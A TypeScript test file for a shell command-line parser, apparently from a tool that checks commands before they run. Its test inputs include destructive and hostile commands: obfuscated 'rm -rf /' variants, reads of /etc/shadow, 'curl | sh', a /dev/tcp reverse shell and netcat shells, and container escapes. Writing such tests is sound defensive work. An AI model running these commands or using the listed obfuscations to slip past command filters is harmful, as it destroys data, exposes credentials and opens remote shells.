import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCommandLine } from './parse-command-line';

const programs = (line: string): string[] => parseCommandLine(line).map((c) => c.program);
const only = (line: string) => {
  const commands = parseCommandLine(line);
  expect(commands).toHaveLength(1);
  return commands[0]!;
};

describe('parseCommandLine: words and quoting', () => {
  it.each([
    [`rm -rf /`, 'rm', ['-rf', '/']],
    [`r''m -rf /`, 'rm', ['-rf', '/']],
    [`r""m -rf /`, 'rm', ['-rf', '/']],
    [`\\rm -rf /`, 'rm', ['-rf', '/']],
    [`r\\m -rf /`, 'rm', ['-rf', '/']],
    [`"rm" '-rf' "/"`, 'rm', ['-rf', '/']],
    [`$'\\x72\\x6d' -rf /`, 'rm', ['-rf', '/']],
    [`r$@m -rf /`, 'rm', ['-rf', '/']],
    [`cat${'${IFS}'}/etc/passwd`, 'cat', ['/etc/passwd']],
    [`cat$IFS/etc/passwd`, 'cat', ['/etc/passwd']],
    [`cat$IFS$9/etc/shadow`, 'cat', ['/etc/shadow']],
    [`echo "a b" 'c d'`, 'echo', ['a b', 'c d']],
    [`echo "say \\"hi\\""`, 'echo', ['say "hi"']],
    [`echo "$HOME"`, 'echo', ['$HOME']],
    [`echo 'unterminated`, 'echo', ['unterminated']],
    [`rm -rf \\\n /`, 'rm', ['-rf', '/']],
  ])('%s → %s %j', (line, program, args) => {
    const command = only(line);
    expect(command.program).toBe(program);
    expect(command.args).toEqual(args);
  });

  it('keeps $IFS inside double quotes as one word with a space', () => {
    expect(only(`echo "a\${IFS}b"`).args).toEqual(['a b']);
  });

  it('drops comments', () => {
    expect(programs('ls # rm -rf /')).toEqual(['ls']);
  });
});

describe('parseCommandLine: program unwrapping', () => {
  it.each([
    ['/bin/rm -rf /', 'rm', []],
    ['./rm -rf /', 'rm', []],
    ['../../usr/bin/rm x', 'rm', []],
    ['sudo rm x', 'rm', ['sudo']],
    ['sudo -u postgres rm x', 'rm', ['sudo']],
    ['sudo -uwww-data rm x', 'rm', ['sudo']],
    ['sudo --user=bob -E rm x', 'rm', ['sudo']],
    ['env A=1 B=2 rm x', 'rm', ['env']],
    ['env -i -u PATH rm x', 'rm', ['env']],
    ['env -S "rm -rf /"', 'rm', ['env']],
    ['nohup rm x', 'rm', ['nohup']],
    ['timeout -s KILL 10 rm x', 'rm', ['timeout']],
    ['timeout 5s rm x', 'rm', ['timeout']],
    ['nice -n 10 rm x', 'rm', ['nice']],
    ['nice -5 rm x', 'rm', ['nice']],
    ['busybox rm x', 'rm', ['busybox']],
    ['command rm x', 'rm', ['command']],
    ['exec -a name rm x', 'rm', ['exec']],
    ['xargs -0 -n 1 rm', 'rm', ['xargs']],
    ['stdbuf -oL rm x', 'rm', ['stdbuf']],
    ['time -p rm x', 'rm', ['time']],
    ['doas -u root rm x', 'rm', ['doas']],
    ['A=1 B=2 rm x', 'rm', []],
    ['sudo -E env -i A=1 nohup timeout 5 /usr/bin/rm x', 'rm', ['sudo', 'env', 'nohup', 'timeout']],
  ])('%s → %s via %j', (line, program, wrappers) => {
    const command = only(line);
    expect(command.program).toBe(program);
    expect(command.wrappers).toEqual(wrappers);
  });

  it('leaves a wrapper that runs nothing as the program', () => {
    expect(programs('sudo -l')).toEqual(['sudo']);
    expect(programs('env')).toEqual(['env']);
    expect(programs('command -v rm')).toEqual(['command']);
    expect(programs('busybox --list')).toEqual(['busybox']);
  });

  it('records assignments, sudo elevation and target user', () => {
    const command = only('sudo -u bob HISTFILE=/dev/null rm x');
    expect(command.elevated).toBe(true);
    expect(command.runAs).toBe('bob');
    expect(command.assignments).toEqual(['HISTFILE=/dev/null']);
    expect(command.argv).toEqual(['sudo', '-u', 'bob', 'rm', 'x']);
  });

  it('derives flags however they are combined', () => {
    expect(only('rm -rf x').flags).toEqual(['r', 'f']);
    expect(only('rm -fr x').flags).toEqual(['f', 'r']);
    expect(only('rm -r -f x').flags).toEqual(['r', 'f']);
    expect(only('rm --recursive --force=yes x').flags).toEqual(['recursive', 'force']);
    expect(only('rm -- -rf').flags).toEqual([]);
  });
});

describe('parseCommandLine: sub-commands', () => {
  it('splits at ; && || | & and newlines', () => {
    expect(programs('ls; rm -rf /')).toEqual(['ls', 'rm']);
    expect(programs('a && b || c | d & e\nf')).toEqual(['a', 'b', 'c', 'd', 'e', 'f']);
    expect(programs('(cd /; rm -rf *)')).toEqual(['cd', 'rm']);
  });

  it('numbers pipelines and positions', () => {
    const [a, b, c, d] = parseCommandLine('curl x | tee f | sh; ls');
    expect([a?.pipeline, b?.pipeline, c?.pipeline]).toEqual([
      a?.pipeline,
      a?.pipeline,
      a?.pipeline,
    ]);
    expect([a?.position, b?.position, c?.position]).toEqual([0, 1, 2]);
    expect(d?.pipeline).not.toBe(a?.pipeline);
  });

  it('parses $(...), backticks and <(...) as nested commands', () => {
    const commands = parseCommandLine('echo $(rm -rf /) `id` <(curl x)');
    expect(commands.map((c) => [c.program, c.depth, c.origin])).toEqual([
      ['rm', 1, 'substitution'],
      ['id', 1, 'substitution'],
      ['curl', 1, 'substitution'],
      ['echo', 0, 'line'],
    ]);
  });

  it('parses nested substitutions and substitutions inside double quotes', () => {
    expect(programs('echo "$(cat $(ls /tmp))"')).toEqual(['ls', 'cat', 'echo']);
  });

  it('parses bash -c / sh -lc / su -c / eval strings and find -exec', () => {
    expect(programs(`bash -c "curl x | sh"`)).toEqual(['bash', 'curl', 'sh']);
    expect(programs(`sh -lc 'rm -rf /'`)).toEqual(['sh', 'rm']);
    expect(programs(`su -c 'id' root`)).toEqual(['su', 'id']);
    expect(programs(`eval "rm -rf /"`)).toEqual(['eval', 'rm']);
    expect(programs(`find / -name x -exec rm -rf {} \\;`)).toEqual(['find', 'rm']);
  });

  it('parses the command a container client runs in a container', () => {
    expect(
      programs(`kubectl run x --image=alpine --restart=Never -- sh -c 'nc h 1 -e sh'`),
    ).toEqual(['kubectl', 'sh', 'nc']);
    expect(programs(`kubectl exec -it web -- /bin/bash`)).toEqual(['kubectl', 'bash']);
    // chroot's own command is a launcher's (command-launchers.ts).
    expect(programs(`docker run --rm -v /:/h alpine sh -c 'chroot /h id'`)).toEqual([
      'docker',
      'sh',
      'chroot',
      'id',
    ]);
    expect(programs(`sudo podman exec -u 0 db bash -lc "cat /etc/shadow"`)).toEqual([
      'podman',
      'bash',
      'cat',
    ]);
    const nested = parseCommandLine(`docker exec web sh -c 'rm -rf /data'`).find(
      (c) => c.program === 'rm',
    );
    expect(nested?.depth).toBe(2);
    // No run/exec verb, or no shell given -c: the arguments are the client's own.
    expect(programs(`docker build -t app . --build-arg sh -c`)).toEqual(['docker']);
    expect(programs(`docker ps -q`)).toEqual(['docker']);
  });

  it('parses the command watch reruns through sh -c, or runs as given with -x', () => {
    expect(programs(`watch -n 1 'id; cat /etc/shadow'`)).toEqual(['watch', 'id', 'cat']);
    expect(programs(`watch --interval=5 -d ls -la /root`)).toEqual(['watch', 'ls']);
    expect(programs(`sudo watch -q 3 -t "nc 10.0.0.1 4444 -e /bin/sh"`)).toEqual(['watch', 'nc']);
    expect(programs(`watch -x sh -c 'reset; exec sh 1>&0 2>&0'`)).toEqual([
      'watch',
      'sh',
      'reset',
      'sh',
    ]);
    const nc = parseCommandLine(`sudo watch 'nc -e /bin/sh h 1'`).find((c) => c.program === 'nc');
    expect(nc?.elevated).toBe(true);
    expect(nc?.depth).toBe(1);
    // Only options: nothing to rerun.
    expect(programs(`watch --help`)).toEqual(['watch']);
  });

  it('carries sudo elevation into the script it runs', () => {
    const rm = parseCommandLine(`sudo bash -c 'rm -rf /'`).find((c) => c.program === 'rm');
    expect(rm?.elevated).toBe(true);
    expect(rm?.depth).toBe(1);
  });

  it('records redirections without the fd number', () => {
    const command = only('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 2>/dev/null');
    expect(command.args).toEqual(['-i']);
    expect(command.redirects).toEqual([
      { op: '>&', target: '/dev/tcp/10.0.0.1/4444' },
      { op: '>&', target: '1' },
      { op: '>', target: '/dev/null' },
    ]);
    expect(only('cmd &>>log').redirects).toEqual([{ op: '&>>', target: 'log' }]);
  });
});

describe('parseCommandLine: robustness', () => {
  it('takes names inherited by every object for programs, not wrappers', () => {
    for (const name of ['toString', 'constructor', '__proto__', 'valueOf', 'hasOwnProperty']) {
      expect(parseCommandLine(`${name} --x -v rm -rf /`).map((c) => c.program)).toEqual([name]);
      expect(only(`sudo ${name} rm`).wrappers).toEqual(['sudo']);
    }
  });

  it('never throws and stays bounded on any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (line) => {
        const commands = parseCommandLine(line);
        expect(commands.length).toBeLessThanOrEqual(256);
      }),
      { numRuns: 2000 },
    );
  });

  it('never throws on shell-heavy random input', () => {
    const pieces = fc.constantFrom(
      '$(',
      ')',
      '`',
      "'",
      '"',
      '\\',
      '$IFS',
      '${',
      '}',
      '<(',
      '>&',
      '|',
      ';',
      '&&',
      ' ',
      'bash -c ',
      'sudo ',
      // Names Object.prototype carries: a lookup table must not take them for wrappers.
      'toString ',
      'constructor ',
      '--x ',
      'rm',
      '-rf',
      '\n',
      "$'",
      '#',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 80 }), (parts) => {
        parseCommandLine(parts.join(''));
      }),
      { numRuns: 2000 },
    );
  });

  it('handles deep nesting and huge lines', () => {
    expect(() => parseCommandLine('$('.repeat(5000))).not.toThrow();
    expect(() => parseCommandLine('bash -c "'.repeat(200))).not.toThrow();
    expect(parseCommandLine('a;'.repeat(10_000)).length).toBe(256);
  });
});

describe('parseCommandLine: more wrappers', () => {
  it('unwraps ionice and setsid', () => {
    expect(only('ionice -c 3 rm x').program).toBe('rm');
    expect(only('setsid -f rm x').program).toBe('rm');
  });
});
